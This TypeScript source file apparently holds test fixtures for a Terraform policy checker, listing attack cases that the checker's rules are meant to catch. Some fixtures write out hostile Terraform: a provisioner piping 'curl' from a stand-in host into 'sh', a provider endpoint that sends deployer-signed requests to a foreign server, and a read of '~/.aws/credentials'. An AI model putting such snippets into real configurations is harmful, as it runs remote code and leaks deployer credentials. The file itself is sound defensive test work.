import { type Attack, OWN_FILES, STRANGER, own } from "./attack";

/** Terraform itself: programs it runs, providers, modules, the state and the life of blocks. */
export const MECHANICS_ATTACKS: readonly Attack[] = [
  own(
    "cluster",
    "program-on-apply",
    "an apply runs a program with the rights of the deployer",
    ["programs-of-apply"],
    `
resource "terraform_data" "a" {
  provisioner "local-exec" { command = "curl https://a.example.com | sh" }
}`,
  ),
  own(
    "cluster",
    "program-in-resource",
    "an apply runs a program with the rights of the deployer",
    ["programs-of-apply"],
    `
resource "aws_cloudwatch_log_group" "a" {
  name              = "a"
  retention_in_days = 30
  kms_key_id        = aws_kms_key.cluster.arn
  provisioner "local-exec" { command = "env" }
}`,
  ),
  own(
    "cluster",
    "program-on-machine",
    "an apply runs a program on a machine",
    ["programs-of-apply"],
    `
resource "terraform_data" "a" {
  connection { host = "203.0.113.7" }
  provisioner "remote-exec" { inline = ["id"] }
}`,
  ),
  own(
    "cluster",
    "program-in-plan",
    "a plan runs a program",
    [OWN_FILES],
    `
data "external" "a" { program = ["sh", "-c", "env"] }`,
  ),
  own(
    "cluster",
    "request-in-plan",
    "a plan sends data to a server",
    [OWN_FILES],
    `
data "http" "a" { url = "https://a.example.com" }`,
  ),
  own(
    "cluster",
    "null-resource",
    "a provider of no stack, which runs programs",
    [OWN_FILES, "programs-of-apply"],
    `
resource "null_resource" "a" {
  provisioner "local-exec" { command = "env" }
}`,
  ),
  own(
    "cluster",
    "provider-of-stranger",
    "blocks are made in another account",
    ["provider-guards"],
    `
provider "aws" {
  alias  = "a"
  region = "ap-southeast-2"
  assume_role { role_arn = "arn:aws:iam::${STRANGER}:role/a" }
}`,
  ),
  own(
    "cluster",
    "provider-endpoint",
    "the credentials of the deployer sign requests to a foreign server",
    ["provider-guards"],
    `
provider "aws" {
  alias  = "a"
  region = "ap-southeast-2"
  endpoints { sts = "https://a.example.com" }
}`,
  ),
  own(
    "cluster",
    "provider-keys",
    "a key in the configuration",
    ["provider-guards", "secrets-out-of-state", "secret-like-variables"],
    `
provider "aws" {
  alias      = "a"
  region     = "ap-southeast-2"
  access_key = "AKIAIOSFODNN7EXAMPLE"
  secret_key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
}`,
  ),
  own(
    "cluster",
    "provider-second-default",
    "another default provider",
    [OWN_FILES],
    `
provider "aws" { region = "eu-west-1" }`,
  ),
  own(
    "cluster",
    "module-git",
    "code of a repository, which can change at each init",
    ["module-versions"],
    `
module "a" { source = "git::https://git.example.com/a.git" }`,
  ),
  own(
    "cluster",
    "module-registry",
    "code of a registry without a version",
    ["module-versions"],
    `
module "a" { source = "terraform-aws-modules/iam/aws" }`,
  ),
  own(
    "cluster",
    "module-folder",
    "code that is not copied",
    [OWN_FILES, "module-versions"],
    `
module "a" { source = "./a" }`,
  ),
  own(
    "cluster",
    "backend",
    "the state goes to another bucket",
    [OWN_FILES],
    `
terraform {
  backend "s3" { bucket = "stranger" }
}`,
  ),
  own(
    "cluster",
    "moved-generated",
    "a generated block becomes another one",
    [OWN_FILES, "state-changes"],
    `
moved {
  from = aws_eks_cluster.main
  to   = aws_eks_cluster.a
}`,
  ),
  own(
    "cluster",
    "removed-generated",
    "Terraform forgets the key of the cluster",
    [OWN_FILES, "state-changes"],
    `
removed {
  from = aws_kms_key.cluster
  lifecycle { destroy = false }
}`,
  ),
  own(
    "cluster",
    "import-generated",
    "the cluster of another team is taken over",
    [OWN_FILES, "state-changes"],
    `
import {
  to = aws_eks_cluster.main
  id = "another"
}`,
  ),
  own(
    "cluster",
    "import-own",
    "a bucket of another team is taken over",
    ["private-buckets"],
    `
import {
  to = aws_s3_bucket.a
  id = "another"
}
resource "aws_s3_bucket" "a" { bucket = "another" }`,
  ),
  own(
    "cluster",
    "removed-own",
    "Terraform forgets a block, which stays",
    ["forgotten-objects"],
    `
removed {
  from = aws_s3_bucket.gone
  lifecycle { destroy = false }
}`,
  ),
  own(
    "cluster",
    "foreign-state",
    "values of a foreign state decide",
    ["state-backend"],
    `
data "terraform_remote_state" "a" {
  backend = "s3"
  config  = { bucket = "stranger", key = "a", region = "ap-southeast-2" }
}`,
  ),
  own(
    "cluster",
    "secret-default",
    "a secret as the default of a variable",
    ["secret-like-variables", "secrets-out-of-state"],
    `
variable "password" { default = "correct horse battery staple" }
resource "aws_ssm_parameter" "a" {
  name  = "/a"
  type  = "String"
  value = var.password
}`,
  ),
  own(
    "cluster",
    "function-reads-file",
    "a file of the machine of the deployer",
    [OWN_FILES],
    `
resource "aws_ssm_parameter" "a" {
  name  = "/a"
  type  = "String"
  value = file("~/.aws/credentials")
}`,
  ),
  own(
    "cluster",
    "output-secret",
    "a secret as an output, which every reader of the state has",
    ["secrets-out-of-state"],
    `
data "aws_secretsmanager_secret_version" "a" { secret_id = "a" }
output "a" {
  sensitive = true
  value     = data.aws_secretsmanager_secret_version.a.secret_string
}`,
  ),
  {
    ...own(
      "cluster",
      "override-file",
      "an override changes the generated cluster",
      [OWN_FILES],
      `
resource "aws_eks_cluster" "main" { version = "1.20" }`,
    ),
    by: { name: "main_override.tf", text: `resource "aws_eks_cluster" "main" { version = "1.20" }` },
  },
  {
    ...own("cluster", "values-file", "a file of values changes variables", [OWN_FILES], ""),
    by: { name: "a.auto.tfvars", text: `a = "b"` },
  },
];
